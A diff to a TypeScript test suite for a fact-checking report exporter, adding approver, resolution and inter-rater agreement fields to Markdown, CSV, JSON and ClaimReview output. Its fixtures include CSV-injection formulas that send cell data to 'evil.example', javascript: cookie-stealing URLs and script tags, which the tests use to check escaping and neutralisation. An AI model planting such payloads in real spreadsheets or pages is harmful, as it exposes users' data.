@@ -13,14 +13,17 @@ import {
   toJson,
   toMarkdown,
   validateClaimReview,
+  CSV_YES,
   type ClaimReview,
   type Rating,
+  type ReportAgreement,
   type ReportClaim,
   type ReportData,
 } from '@/lib/reports';
 
 const PAREN_URL = 'https://archives.example.org/rapports/chômage (version finale) 2024.pdf';
 const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Voir la source")';
+const APPROVER_FORMULA = '=HYPERLINK("http://evil.example/?a="&B1,"Approuvé")';
 const INJECTION_RATIONALE = [
   'Baisse de 2,8 % selon l’Insee, pas 3 %.',
   'Voir [click](javascript:alert(1)) et <script>alert(1)</script>',
@@ -53,7 +56,11 @@ function fixture(): ReportData {
         rating: 'mostly_true',
         rationale: INJECTION_RATIONALE,
         reviewer: { name: 'Marie *Curie*' },
-        reviewedAt: '2025-03-03T23:30:00.000Z',
+        // Written one day, approved the next: reports date the verdict by its approval.
+        reviewedAt: '2025-03-02T16:00:00.000Z',
+        approver: { name: 'Jean [Dupont]' },
+        approvedAt: '2025-03-03T23:30:00.000Z',
+        resolution: false,
         sources: [
           {
             url: PAREN_URL,
@@ -79,6 +86,9 @@ function fixture(): ReportData {
         rationale: FORMULA,
         reviewer: { name: '@Paul' },
         reviewedAt: '2025-03-04T08:00:00.000Z',
+        approver: { name: APPROVER_FORMULA },
+        approvedAt: '2025-03-04T08:30:00.000Z',
+        resolution: false,
         sources: [
           {
             url: 'javascript:alert(document.cookie)',
@@ -95,8 +105,12 @@ function fixture(): ReportData {
         text: 'Bonjour à toutes et à tous.',
         rating: 'not_a_claim',
         rationale: 'Formule de politesse.',
+        // An editor settled a disagreement: she is both author and approver.
         reviewer: { name: 'Léa' },
         reviewedAt: '2025-03-04T08:05:00.000Z',
+        approver: { name: 'Léa' },
+        approvedAt: '2025-03-04T08:05:00.000Z',
+        resolution: true,
         sources: [
           {
             url: 'https://example.org/guide',
@@ -115,6 +129,18 @@ function withArticle(patch: Partial<ReportData['article']>, data = fixture()): R
   return { ...data, article: { ...data.article, ...patch } };
 }
 
+/** The fixture reduced to its first claim, patched (e.g. another approver). */
+function withFirstClaim(patch: Partial<ReportClaim>, data = fixture()): ReportData {
+  return { ...data, claims: [{ ...data.claims[0], ...patch }] };
+}
+
+const AGREEMENT: ReportAgreement = {
+  alpha: 0.7412,
+  percentAgreement: 0.78,
+  ratedSentences: 11,
+  disputed: ['sen_1', 'sen_5'],
+};
+
 function claim(rating: Rating, index: number): ReportClaim {
   return {
     sentenceId: `sen_${index}`,
@@ -124,6 +150,9 @@ function claim(rating: Rating, index: number): ReportClaim {
     rationale: 'Parce que.',
     reviewer: { name: 'Léa' },
     reviewedAt: '2025-03-04T08:05:00.000Z',
+    approver: { name: 'Hugo' },
+    approvedAt: '2025-03-04T09:00:00.000Z',
+    resolution: false,
     sources: [
       {
         url: 'https://example.org',
@@ -194,7 +223,9 @@ describe('toMarkdown', () => {
         '1\\. pas une liste numérotée\\',
       ]),
     );
-    expect(md).toContain('*Vérifié par Marie \\*Curie\\* le 3 mars 2025*');
+    expect(md).toContain(
+      '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 3 mars 2025*',
+    );
   });
 
   it('keeps a multi-line rationale inside its section, with its line breaks', () => {
@@ -235,7 +266,12 @@ describe('toMarkdown', () => {
 
   it('neutralises a formula-looking sentence without altering it', () => {
     expect(section(5)).toContain(`> ${escapeMarkdownText(FORMULA)}`);
-    expect(section(5)).toContain('*Vérifié par @Paul le 4 mars 2025*');
+    expect(section(5)).toContain(
+      `*Vérifié par @Paul, approuvé par ${escapeMarkdownText(APPROVER_FORMULA)} le 4 mars 2025*`,
+    );
+    expect(escapeMarkdownText(APPROVER_FORMULA)).toBe(
+      '\\=HYPERLINK\\("http://evil.example/?a="\\&B1,"Approuvé"\\)',
+    );
   });
 
   it('uses English labels when asked, or when the article is in English', () => {
@@ -247,7 +283,10 @@ describe('toMarkdown', () => {
     expect(en).toContain('Verdict: **Unverifiable**');
     expect(en).toContain('Verdict: **Mostly true**');
     expect(en).toContain('Sources:');
-    expect(en).toContain('*Checked by Marie \\*Curie\\* on March 3, 2025*');
+    expect(en).toContain(
+      '*Checked by Marie \\*Curie\\*, approved by Jean \\[Dupont\\] on March 3, 2025*',
+    );
+    expect(en).toContain('*Settled by Léa on March 4, 2025*');
     expect(en).toContain('  “Le taux de chômage\\');
     expect(en).not.toContain('Invérifiable');
 
@@ -266,7 +305,9 @@ describe('toMarkdown', () => {
 
   it('prints date-times in the asked time zone but never shifts bare dates', () => {
     const paris = toMarkdown(fixture(), { timeZone: 'Europe/Paris' });
-    expect(paris).toContain('*Vérifié par Marie \\*Curie\\* le 4 mars 2025*');
+    expect(paris).toContain(
+      '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 4 mars 2025*',
+    );
     const losAngeles = toMarkdown(fixture(), { timeZone: 'America/Los_Angeles' });
     expect(losAngeles).toContain('— Insee, 14 février 2025');
   });
@@ -288,6 +329,148 @@ describe('toMarkdown', () => {
     expect(single).toContain('- 1 affirmation vérifiée sur 1 phrase');
     expect(single).not.toContain('Article original');
     expect(single).not.toContain('Éditeur');
+  });
+
+  describe('signature', () => {
+    const signatureOf = (md: string) =>
+      md.split('\n').filter((line) => /^\*(Vérifié|Checked|Tranché|Settled) /.test(line));
+
+    it.each<[string, Partial<ReportClaim>, string]>([
+      ['fr', {}, '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 3 mars 2025*'],
+      ['fr', { approver: null }, '*Vérifié par Marie \\*Curie\\*, approuvé le 3 mars 2025*'],
+      [
+        'fr',
+        { approver: { name: ' \n ' } },
+        '*Vérifié par Marie \\*Curie\\*, approuvé le 3 mars 2025*',
+      ],
+      [
+        'fr',
+        { resolution: true, approver: { name: 'Marie *Curie*' } },
+        '*Tranché par Marie \\*Curie\\* le 3 mars 2025*',
+      ],
+      ['en', {}, '*Checked by Marie \\*Curie\\*, approved by Jean \\[Dupont\\] on March 3, 2025*'],
+      ['en', { approver: null }, '*Checked by Marie \\*Curie\\*, approved on March 3, 2025*'],
+      [
+        'en',
+        { resolution: true, approver: { name: 'Marie *Curie*' } },
+        '*Settled by Marie \\*Curie\\* on March 3, 2025*',
+      ],
+      // A resolution whose editor account is gone is still signed by its author.
+      [
+        'en',
+        { resolution: true, approver: null },
+        '*Settled by Marie \\*Curie\\* on March 3, 2025*',
+      ],
+    ])('in %s with %j: %s', (lang, patch, expected) => {
+      expect(signatureOf(toMarkdown(withFirstClaim(patch), { lang }))).toEqual([expected]);
+    });
+
+    it('is dated by the approval, not by the last edit', () => {
+      const md = toMarkdown(
+        withFirstClaim({
+          reviewedAt: '2025-01-10T10:00:00.000Z',
+          approvedAt: '2025-02-20T10:00:00.000Z',
+        }),
+      );
+      expect(signatureOf(md)).toEqual([
+        '*Vérifié par Marie \\*Curie\\*, approuvé par Jean \\[Dupont\\] le 20 février 2025*',
+      ]);
+      expect(md).not.toContain('10 janvier');
+    });
+
+    it('escapes the approver name like any user text', () => {
+      const md = toMarkdown(
+        withFirstClaim({ approver: { name: '<img src=x> [a](javascript:b) **c**\n# d' } }),
+      );
+      expect(signatureOf(md)).toEqual([
+        '*Vérifié par Marie \\*Curie\\*, approuvé par \\<img src=x\\> \\[a\\]\\(javascript:b\\) ' +
+          '\\*\\*c\\*\\* \\# d le 3 mars 2025*',
+      ]);
+    });
+  });
+
+  describe('agreement', () => {
+    // French percentages take a (narrow) no-break space before "%"; compare with plain spaces.
+    const plain = (text: string) => text.replace(/[\u00a0\u202f]/g, ' ');
+    /** The header list: the lines starting with "- " before the first blank line after the title. */
+    const headerOf = (md: string) => {
+      const lines = md.split('\n');
+      const end = lines.indexOf('', 2);
+      return lines.slice(2, end).map(plain);
+    };
+
+    it.each<[string, ReportAgreement, string[]]>([
+      [
+        'fr',
+        AGREEMENT,
+        [
+          '- Accord entre vérificateurs : α = 0,74 (accord brut 78 %) sur 11 phrases',
+          '- Phrases en litige : 2',
+        ],
+      ],
+      [
+        'en',
+        AGREEMENT,
+        [
+          '- Inter-rater agreement: α = 0.74 (raw agreement 78%) over 11 sentences',
+          '- Disputed sentences: 2',
+        ],
+      ],
+      [
+        'fr',
+        { alpha: null, percentAgreement: 1, ratedSentences: 1, disputed: [] },
+        ['- Accord entre vérificateurs : α non calculable (accord brut 100 %) sur 1 phrase'],
+      ],
+      [
+        'en',
+        { alpha: null, percentAgreement: 1, ratedSentences: 1, disputed: [] },
+        ['- Inter-rater agreement: α not computable (raw agreement 100%) over 1 sentence'],
+      ],
+      [
+        'en',
+        { alpha: null, percentAgreement: null, ratedSentences: 0, disputed: [] },
+        ['- Inter-rater agreement: α not computable over 0 sentences'],
+      ],
+      [
+        'fr',
+        { alpha: 1, percentAgreement: 1, ratedSentences: 0, disputed: [] },
+        ['- Accord entre vérificateurs : α = 1,00 (accord brut 100 %) sur 0 phrase'],
+      ],
+      [
+        'fr',
+        { alpha: -0.2, percentAgreement: 0.3333, ratedSentences: 1234, disputed: ['sen_2'] },
+        [
+          '- Accord entre vérificateurs : α = -0,20 (accord brut 33 %) sur 1 234 phrases',
+          '- Phrases en litige : 1',
+        ],
+      ],
+      [
+        'en',
+        { alpha: -0.2, percentAgreement: 0.3333, ratedSentences: 1234, disputed: ['sen_2'] },
+        [
+          '- Inter-rater agreement: α = -0.20 (raw agreement 33%) over 1,234 sentences',
+          '- Disputed sentences: 1',
+        ],
+      ],
+    ])('in %s for %j', (lang, agreement, expected) => {
+      const header = headerOf(toMarkdown({ ...fixture(), agreement }, { lang }));
+      // Right after the claim count, at the end of the header list.
+      const summary = header.findIndex((line) =>
+        /^- 3 (affirmations vérifiées|verified claims)/.test(line),
+      );
+      expect(summary).toBeGreaterThan(0);
+      expect(header.slice(summary + 1)).toEqual(expected);
+    });
+
+    it('keeps the percent sign on the same line as its number in French', () => {
+      expect(toMarkdown({ ...fixture(), agreement: AGREEMENT })).toMatch(/78[\u00a0\u202f]%/);
+    });
+
+    it.each(['fr', 'en'])('adds no line without agreement data (%s)', (lang) => {
+      const md = toMarkdown(fixture(), { lang });
+      expect(md).not.toMatch(/α|Accord entre|litige|Inter-rater|Disputed/);
+      expect(headerOf(md).at(-1)).toMatch(/^- 3 (affirmations vérifiées|verified claims)/);
+    });
   });
 
   it.each([
@@ -398,7 +581,10 @@ describe('toCsv', () => {
     // Multi-line user text stays in one cell, unchanged.
     expect(cell(first, 'rationale')).toBe(INJECTION_RATIONALE);
     expect(cell(first, 'reviewer')).toBe('Marie *Curie*');
-    expect(cell(first, 'reviewed_at')).toBe('2025-03-03T23:30:00.000Z');
+    expect(cell(first, 'reviewed_at')).toBe('2025-03-02T16:00:00.000Z');
+    expect(cell(first, 'approver')).toBe('Jean [Dupont]');
+    expect(cell(first, 'approved_at')).toBe('2025-03-03T23:30:00.000Z');
+    expect(cell(first, 'resolution')).toBe('');
     expect(cell(first, 'source_urls')).toBe(`${PAREN_URL} | https://example.org/sans-titre`);
     expect(cell(first, 'source_titles')).toBe(
       'Taux de chômage [T4 2024] | https://example.org/sans-titre',
@@ -415,6 +601,7 @@ describe('toCsv', () => {
     expect(cell(second, 'sentence')).toBe(`'${FORMULA}`);
     expect(cell(second, 'rationale')).toBe(`'${FORMULA}`);
     expect(cell(second, 'reviewer')).toBe("'@Paul");
+    expect(cell(second, 'approver')).toBe(`'${APPROVER_FORMULA}`);
     for (const row of rows) {
       for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
     }
@@ -424,6 +611,54 @@ describe('toCsv', () => {
     const [, row] = parseCsv(toCsv(withArticle({ language: 'en', sourceUrl: null })).slice(1));
     expect(cell(row, 'rating_label')).toBe('Mostly true');
     expect(cell(row, 'article_url')).toBe('');
+  });
+
+  it('puts the approval columns right after the reviewer columns', () => {
+    const start = CSV_COLUMNS.indexOf('reviewer');
+    expect(CSV_COLUMNS.slice(start, start + 5)).toEqual([
+      'reviewer',
+      'reviewed_at',
+      'approver',
+      'approved_at',
+      'resolution',
+    ]);
+    const [, , third] = rows;
+    expect(cell(third, 'approver')).toBe('Léa');
+    expect(cell(third, 'resolution')).toBe(CSV_YES);
+    expect(CSV_YES).toBe('yes');
+  });
+
+  it.each<[string, Partial<ReportClaim>, Partial<Record<(typeof CSV_COLUMNS)[number], string>>]>([
+    ['an approver', {}, { approver: 'Jean [Dupont]', resolution: '' }],
+    ['an unknown approver', { approver: null }, { approver: '', resolution: '' }],
+    [
+      'a resolution',
+      { resolution: true, approver: { name: 'Marie *Curie*' } },
+      { reviewer: 'Marie *Curie*', approver: 'Marie *Curie*', resolution: 'yes' },
+    ],
+    [
+      'a formula as approver name',
+      { approver: { name: APPROVER_FORMULA } },
+      { approver: `'${APPROVER_FORMULA}` },
+    ],
+    [
+      'a HYPERLINK approver name',
+      { approver: { name: '=HYPERLINK("https://evil.example","clic")' } },
+      { approver: `'=HYPERLINK("https://evil.example","clic")` },
+    ],
+    ['a plus-prefixed approver name', { approver: { name: '+Jean' } }, { approver: "'+Jean" }],
+    ['a tab-prefixed approver name', { approver: { name: '\t=1+1' } }, { approver: "'\t=1+1" }],
+    [
+      'the approval date-time',
+      { approvedAt: '2025-03-05T10:00:00+01:00' },
+      { approved_at: '2025-03-05T10:00:00+01:00', reviewed_at: '2025-03-02T16:00:00.000Z' },
+    ],
+  ])('writes %s', (_name, patch, expected) => {
+    const [, row] = parseCsv(toCsv(withFirstClaim(patch)).replace(/^\uFEFF/, ''));
+    expect(row).toHaveLength(CSV_COLUMNS.length);
+    for (const [column, value] of Object.entries(expected)) {
+      expect(cell(row, column as (typeof CSV_COLUMNS)[number])).toBe(value);
+    }
   });
 
   it('writes only the header when there is no claim', () => {
@@ -486,6 +721,50 @@ describe('toJson', () => {
     report.claims[0].sources[0].title = 'changé';
     report.claims[0].reviewer.name = 'changé';
     expect(data).toEqual(fixture());
+  });
+
+  it.each<[string, Partial<ReportClaim>]>([
+    ['an approver', {}],
+    ['an unknown approver', { approver: null }],
+    ['a resolution', { resolution: true, approver: { name: 'Marie *Curie*' } }],
+  ])('carries the approval of a claim with %s', (_name, patch) => {
+    const data = withFirstClaim(patch);
+    const [json] = toJson(data).claims;
+    const source = data.claims[0];
+    expect(json.reviewer).toEqual(source.reviewer);
+    expect(json.approver).toEqual(source.approver);
+    expect(json.approvedAt).toBe(source.approvedAt);
+    expect(json.resolution).toBe(source.resolution);
+    expect(json.reviewedAt).toBe(source.reviewedAt);
+    expect(JSON.parse(JSON.stringify(json))).toMatchObject({
+      approver: source.approver,
+      approvedAt: source.approvedAt,
+      resolution: source.resolution,
+    });
+  });
+
+  it.each<[string, ReportAgreement | undefined, ReportAgreement | null]>([
+    ['present', AGREEMENT, AGREEMENT],
+    [
+      'without alpha',
+      { alpha: null, percentAgreement: null, ratedSentences: 0, disputed: [] },
+      { alpha: null, percentAgreement: null, ratedSentences: 0, disputed: [] },
+    ],
+    ['absent', undefined, null],
+  ])('carries the agreement when %s', (_name, agreement, expected) => {
+    const report = toJson({ ...fixture(), agreement });
+    expect(report.agreement).toEqual(expected);
+    // null, not a missing key, so consumers can tell "not computed" from an old format.
+    expect(JSON.parse(JSON.stringify(report))).toHaveProperty('agreement', expected);
+  });
+
+  it('does not share the approver or the agreement with the input', () => {
+    const data = { ...fixture(), agreement: { ...AGREEMENT, disputed: [...AGREEMENT.disputed] } };
+    const report = toJson(data);
+    report.claims[0].approver!.name = 'changé';
+    report.agreement!.disputed.push('sen_9');
+    report.agreement!.alpha = 0;
+    expect(data).toEqual({ ...fixture(), agreement: AGREEMENT });
   });
 
   it('counts zero everywhere without claims', () => {
@@ -553,6 +832,35 @@ describe('toClaimReview', () => {
   ])('maps %s to ratingValue %s', (rating, value) => {
     const [review] = toClaimReview({ ...fixture(), claims: [claim(rating, 2)] });
     expect(review.reviewRating.ratingValue).toBe(value);
+  });
+
+  it.each<[string, string, string | undefined]>([
+    ['2025-03-02T16:00:00.000Z', '2025-03-03T23:30:00.000Z', '2025-03-03'],
+    ['2025-03-04T08:00:00.000Z', '2025-03-10T08:00:00.000Z', '2025-03-10'],
+    // The day is taken in UTC, like every date of this builder.
+    ['2025-03-01T08:00:00.000Z', '2025-03-05T00:30:00+01:00', '2025-03-04'],
+    ['2025-03-01T08:00:00.000Z', 'pas une date', undefined],
+  ])(
+    'dates the review by its approval (written %s, approved %s → %s)',
+    (reviewedAt, approvedAt, day) => {
+      const [review] = toClaimReview(withFirstClaim({ reviewedAt, approvedAt }));
+      expect(review.datePublished).toBe(day);
+      if (day === undefined) expect(review).not.toHaveProperty('datePublished');
+    },
+  );
+
+  it('keeps the organization as author and names no person, even for a resolution', () => {
+    for (const patch of [
+      {},
+      { resolution: true, approver: { name: 'Marie *Curie*' } },
+      { approver: null },
+    ]) {
+      const [review] = toClaimReview(withFirstClaim(patch));
+      expect(review.author).toEqual({ '@type': 'Organization', name: 'Cellule vérif’' });
+      const text = JSON.stringify(review);
+      expect(text).not.toMatch(/Curie|Dupont|Person|approv|resolution/i);
+      expect(validateClaimReview(review)).toEqual([]);
+    }
   });
 
   it('omits the claim author and appearance when the article source is unknown', () => {
